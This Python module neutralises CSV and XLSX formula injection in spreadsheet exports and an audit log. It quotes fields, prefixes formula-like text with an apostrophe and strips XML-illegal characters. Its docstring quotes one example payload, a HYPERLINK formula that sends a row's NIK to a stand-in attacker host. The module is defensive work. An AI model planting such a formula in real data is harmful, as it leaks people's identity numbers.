"""Text in the files a spreadsheet opens (exports, the audit log) is data, never a formula (OWASP "CSV Injection").

A claim's place typed as =HYPERLINK("http://evil.example/c?"&G2,"Lihat foto") would, as a live formula, send the
row's NIK to that address when an officer clicks "Lihat foto". So:
- XLSX: every text is a string cell (openpyxl makes a text starting with "=" a formula unless told otherwise), with
  Excel's quote prefix when it looks like a formula, so that editing the cell keeps it text. Numbers and dates stay
  typed. Characters XML cannot hold (control characters in old data) are removed, so they cannot stop an export.
- CSV: a text starting with = + - @, a tab or a line break, or with = + - @ after leading spaces, gets a leading
  apostrophe; and every text field is quoted, so that a semicolon inside a text cannot start a new cell where Excel
  splits on semicolons (Indonesian regional settings). A plain signed number ("+6281234567890", "-5") is left
  alone: it calls nothing, and an apostrophe would show in front of every phone number.
"""

from __future__ import annotations

import re

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

_FORMULA_START = re.compile(r"[\t\r\n]|\s*[=+\-@]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could take `text` for a formula ("=1+1", " @SUM(A1)", "\\t=1", "-2+3")."""
    return bool(_FORMULA_START.match(text)) and not _PLAIN_NUMBER.fullmatch(text)


def csv_text(text: str) -> str:
    """`text` as a CSV field: a leading apostrophe when it looks like a formula (the writer quotes it)."""
    return "'" + text if looks_like_formula(text) else text


def xlsx_text(text: str) -> str:
    """`text` as an XLSX string cell can hold it: without the control characters XML forbids."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)
